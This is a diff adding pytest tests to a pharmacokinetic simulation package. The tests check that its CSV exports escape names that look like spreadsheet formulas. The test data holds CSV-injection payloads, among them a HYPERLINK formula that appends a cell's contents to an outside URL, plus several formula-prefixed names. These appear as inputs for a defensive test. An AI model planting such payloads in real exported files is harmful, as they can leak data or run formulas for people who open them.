@@ -1,11 +1,14 @@
+import csv
+import math
 from pathlib import Path
 
 import pandas as pd
 import pytest
 from PIL import Image
 
+import pksim as pk
 from pksim import metrics
-from pksim.show.pages.files import write_simulation
+from pksim.show.pages.files import write_claims, write_population, write_simulation, write_timing
 
 NAMES = ["curves.csv", "curves.png", "curves.svg", "doses.png", "metrics.csv", "sources.csv", "study.toml"]
 
@@ -41,3 +44,79 @@ def test_nothing_is_written_when_a_picture_cannot_be_drawn(solve, tmp_path, monk
     with pytest.raises(MemoryError):
         write_simulation(solve(mine="melatonin 1 mg at bedtime"), tmp_path / "out")
     assert listed(tmp_path) == []
+
+
+FORMULAS = ['=HYPERLINK("https://example.org?"&A1, "x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " \n=1", "＝1"]
+PLAIN = ["mine - 1", "1+1", "'quoted", "a=b", "x\r=1"]
+
+
+def cells(path):
+    """Every cell of a table as a spreadsheet reads it."""
+    with path.open(encoding="utf-8", newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def is_number(cell):
+    try:
+        return math.isfinite(float(cell))
+    except ValueError:
+        return False
+
+
+@pytest.fixture(scope="module")
+def doses_of_names():
+    return [pk.Schedule.parse(name, "melatonin 1 mg 60 min before bed") for name in (*FORMULAS, *PLAIN)]
+
+
+@pytest.fixture(scope="module")
+def written(doses_of_names, tmp_path_factory):
+    """All tables that are written of schedules with such names, and of a compound with one."""
+    folder = tmp_path_factory.mktemp("tables")
+    caffeine = pk.load_compounds()["melatonin"].model_copy(update={"name": "=caffeine"})
+    cup = pk.Schedule("cup", (pk.Dose("=caffeine", 1, time_h=-1),))
+    three = [each.nightly(range(1, 4), name=each.name) for each in doses_of_names]
+    write_simulation(pk.simulate([*three, cup], nights=3, step_min=60, compounds=[caffeine]), folder)
+    own = {"compounds": [caffeine], "step_min": 60}
+    write_population(pk.simulate_population([*doses_of_names, cup], subjects=3, **own), folder)
+    write_timing(pk.best_timing(doses_of_names[0], goal=pk.peak_at(0), step_min=60), folder)
+    write_claims(pd.DataFrame({"claim": FORMULAS, "model_low": [-1.5] * len(FORMULAS)}), folder)
+    return folder
+
+
+def test_no_text_in_a_table_is_a_formula_for_a_spreadsheet(written):
+    tables = sorted(written.glob("*.csv"))
+    assert len(tables) == 9
+    for table in tables:
+        found = [
+            cell for cell in cells(table) if cell.lstrip().startswith(tuple("=+-@＝＋－＠")) and not is_number(cell)
+        ]
+        assert found == [], table.name
+
+
+@pytest.mark.parametrize("table", ["curves.csv", "metrics.csv", "nights.csv", "bands.csv", "bands-metrics.csv"])
+def test_an_apostrophe_stands_before_such_a_name_and_no_other(written, table):
+    with (written / table).open(encoding="utf-8", newline="") as file:
+        names = {row["schedule"] for row in csv.DictReader(file)}
+    shown = {name: name.replace("\t", r"\t").replace("\r", r"\r") for name in (*FORMULAS, *PLAIN)}
+    assert names == {f"'{shown[name]}" for name in FORMULAS} | {*(shown[name] for name in PLAIN), "cup"}
+
+
+def test_numbers_stay_numbers(written, doses_of_names):
+    frame = pd.read_csv(written / "curves.csv")
+    assert frame["time_h"].min() == -4
+    assert frame["concentration"].dtype == float
+    assert pd.read_csv(written / "claims.csv")["model_low"].tolist() == [-1.5] * len(FORMULAS)
+    assert "'=caffeine.tmax_h" in cells(written / "sleepers.csv")
+
+
+def test_where_nothing_is_like_a_formula_tables_are_as_pandas_writes_them(solve, tmp_path):
+    simulation = solve(mine="melatonin 1 mg 60 min before bed; magnesium 300 mg elemental at 21:00")
+    write_simulation(simulation, tmp_path)
+    assert (tmp_path / "curves.csv").read_text() == simulation.to_frame().to_csv(index=False)
+    assert (tmp_path / "metrics.csv").read_text() == metrics(simulation).to_csv()
+
+
+def test_a_study_file_keeps_such_names_exactly(written, doses_of_names):
+    read = pk.load_study(written / "study.toml")
+    assert set(read.schedules) == {*(each.name for each in doses_of_names), "cup"}
+    assert "=caffeine" in read.compounds
